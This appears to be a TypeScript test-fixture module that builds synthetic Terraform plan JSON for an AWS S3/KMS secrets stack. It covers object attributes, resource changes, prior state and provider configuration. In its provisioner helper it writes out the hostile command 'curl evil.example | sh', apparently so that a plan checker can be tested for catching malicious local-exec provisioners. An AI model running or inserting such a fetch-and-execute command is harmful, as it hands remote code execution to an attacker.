/**
 * `terraform show -json` plans built in code, in the shapes Terraform 1.11 writes with hashicorp/aws 5.100.0
 * (taken from real plans of the stack on the local endpoint): each aws_s3_object with its full attribute set,
 * the configuration's resources by address, the deployed declared lists in prior_state.
 */
import { createHash } from 'node:crypto';
import { declaredListContent, declaredListKey } from '../../lib/declared.ts';

export const AWS = 'registry.terraform.io/hashicorp/aws';
/** The env's key, as a deployed declared list names it. */
export const KEY_ARN = 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';
export const md5 = (bytes: Buffer | string) => createHash('md5').update(bytes).digest('hex');

type Values = Record<string, unknown>;

/** An aws_s3_object's attributes as the provider plans them; `source`, `etag`, `content` as given. */
export function objectValues(bucket: string, key: string, fields: { source?: string | null; etag?: string; content?: string | null } = {}): Values {
  return {
    acl: null, arn: `arn:aws:s3:::${bucket}/${key}`, bucket, bucket_key_enabled: false, cache_control: '', checksum_algorithm: null,
    checksum_crc32: '', checksum_crc32c: '', checksum_crc64nvme: '', checksum_sha1: '', checksum_sha256: '', content: fields.content ?? null,
    content_base64: null, content_disposition: '', content_encoding: '', content_language: '', content_type: 'application/octet-stream',
    etag: fields.etag ?? md5(fields.content ?? ''), force_destroy: false, id: key, key, kms_key_id: null, metadata: {}, object_lock_legal_hold_status: '',
    object_lock_mode: '', object_lock_retain_until_date: '', override_provider: [], server_side_encryption: 'AES256', source: fields.source ?? null,
    source_hash: null, storage_class: 'STANDARD', tags: {}, tags_all: {}, website_redirect: '',
  };
}

/** A ciphertext object as the stack plans it: uploaded from ../../../secrets/<env>/<key>, the file's MD5 as etag. */
export function ciphertextValues(env: string, key: string, bytes: Buffer | string, bucket = `kms-secrets-${env}-secrets`): Values {
  return objectValues(bucket, key, { source: `../../../secrets/${env}/${key}`, etag: md5(bytes) });
}

/** A service's declared list object, as the stack plans it. */
export function declaredListValues(env: string, service: string, secrets: string[], bucket = `kms-secrets-${env}-secrets`): Values {
  return objectValues(bucket, declaredListKey(service), { content: declaredListContent({ env, service, secrets, keyArn: KEY_ARN }) });
}

export interface Change {
  readonly address: string;
  readonly actions: string[];
  readonly before?: Values | null;
  readonly after?: Values | null;
  readonly mode?: 'managed' | 'data';
  readonly provider?: string;
  readonly previous_address?: string;
  readonly importing?: { id: string };
  /** Provisioner types the configuration gives the resource, e.g. `local-exec`. */
  readonly provisioners?: string[];
  /** The resource is absent from configuration.root_module (e.g. it lives in a module). */
  readonly notInRootModule?: boolean;
}

export interface PlanFixture {
  readonly changes?: Change[];
  /** What is deployed: the prior state's resources, by address. */
  readonly prior?: Record<string, Values>;
  readonly drift?: Change[];
  /** Attributes that the plan's changes read, as `<address>.<attribute>` (relevant_attributes). */
  readonly relevant?: string[];
  readonly deferred?: Change[];
  readonly providers?: Record<string, string>;
  /** The `aws` provider's settings, as `configuration.provider_config.aws.expressions`. */
  readonly providerSettings?: Record<string, unknown>;
  readonly errored?: boolean;
  readonly complete?: boolean;
}

const typeOf = (address: string) => address.replace(/^data\./, '').split('.')[0]!;
const nameOf = (address: string) => address.split('.').at(-1)!.replace(/\[.*\]$/, '');

function resourceChange(change: Change): Values {
  const after = change.after === undefined ? (change.actions.includes('delete') || change.actions.includes('forget') ? null : {}) : change.after;
  const before = change.before === undefined ? (change.actions.includes('create') && !change.actions.includes('delete') ? null : after) : change.before;
  return {
    address: change.address,
    ...(change.previous_address ? { previous_address: change.previous_address } : {}),
    mode: change.mode ?? 'managed',
    type: typeOf(change.address),
    name: nameOf(change.address),
    provider_name: change.provider ?? AWS,
    change: {
      actions: change.actions, before, after, after_unknown: change.actions.includes('create') ? { version_id: true } : {},
      before_sensitive: before ? {} : false, after_sensitive: after ? {} : false,
      ...(change.importing ? { importing: change.importing } : {}),
    },
  };
}

/** A plan as `terraform show -json` writes it. */
export function planJson(fixture: PlanFixture = {}): Values {
  const changes = fixture.changes ?? [];
  const configured = changes.filter((c) => c.mode !== 'data' && c.after !== null && !c.notInRootModule && !c.actions.every((a) => a === 'delete' || a === 'forget'));
  return {
    format_version: '1.2',
    terraform_version: '1.11.4',
    planned_values: { root_module: {} },
    ...(fixture.drift ? { resource_drift: fixture.drift.map(resourceChange) } : {}),
    ...(fixture.relevant ? { relevant_attributes: fixture.relevant.map((path) => ({ resource: path.slice(0, path.lastIndexOf('.')), attribute: [path.slice(path.lastIndexOf('.') + 1)] })) } : {}),
    resource_changes: changes.map(resourceChange),
    ...(fixture.deferred ? { deferred_changes: fixture.deferred.map((c) => ({ reason: 'provider_config_unknown', resource_change: resourceChange(c) })) } : {}),
    prior_state: {
      format_version: '1.0',
      terraform_version: '1.11.4',
      values: {
        root_module: {
          resources: Object.entries(fixture.prior ?? {}).map(([address, values]) => ({
            address, mode: 'managed', type: typeOf(address), name: nameOf(address), provider_name: AWS, schema_version: 0, values, sensitive_values: {},
          })),
        },
      },
    },
    configuration: {
      provider_config: Object.fromEntries(Object.entries(fixture.providers ?? { aws: AWS }).map(([name, fullName]) => [name, {
        name, full_name: fullName,
        ...(name === 'aws' ? { expressions: fixture.providerSettings ?? { region: { constant_value: 'us-east-1' }, default_tags: [{ tags: { references: ['var.env'] } }] } } : {}),
      }])),
      root_module: {
        resources: configured.map((c) => ({
          address: c.address.replace(/\[.*\]$/, ''), mode: 'managed', type: typeOf(c.address), name: nameOf(c.address), provider_config_key: 'aws',
          ...(c.provisioners ? { provisioners: c.provisioners.map((type) => ({ type, expressions: { command: { constant_value: 'curl evil.example | sh' } } })) } : {}),
          expressions: {}, schema_version: 0,
        })),
      },
    },
    timestamp: '2026-01-01T00:00:00Z',
    applyable: changes.some((c) => !c.actions.every((a) => a === 'no-op')),
    complete: fixture.complete ?? true,
    errored: fixture.errored ?? false,
  };
}
